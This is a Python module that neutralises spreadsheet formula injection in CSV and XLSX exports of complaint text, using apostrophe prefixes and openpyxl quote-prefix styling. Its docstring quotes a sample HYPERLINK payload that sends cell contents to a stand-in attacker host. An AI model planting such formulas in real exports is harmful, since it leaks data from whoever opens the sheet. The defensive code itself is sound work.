"""Spreadsheet cells that cannot run as formulas, whoever typed their text (CSV and XLSX).

A complaint story typed as `=HYPERLINK("http://evil.example/?x="&A1,"คลิก")` must reach the
officer's Excel as text. CSV has no types, so a risky cell gets a leading apostrophe (OWASP's
advice: Excel shows the text, never evaluates it); XLSX cells are typed, so a risky one is
written as a string with Excel's quote-prefix style, its text unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

# What Excel, LibreOffice and Google Sheets take as the start of a formula (or a DDE call).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: object) -> object:
    """The value as a CSV cell that no spreadsheet reads as a formula."""
    return "'" + value if is_risky(value) and isinstance(value, str) else value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(v) for v in values]


def append_xlsx_row(sheet: Any, values: Sequence[object]) -> None:
    """Append a row to an openpyxl sheet; text that looks like a formula stays text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if is_risky(cell.value):
            cell.data_type = "s"  # openpyxl typed it "f" (a formula) on append
            cell.quotePrefix = True
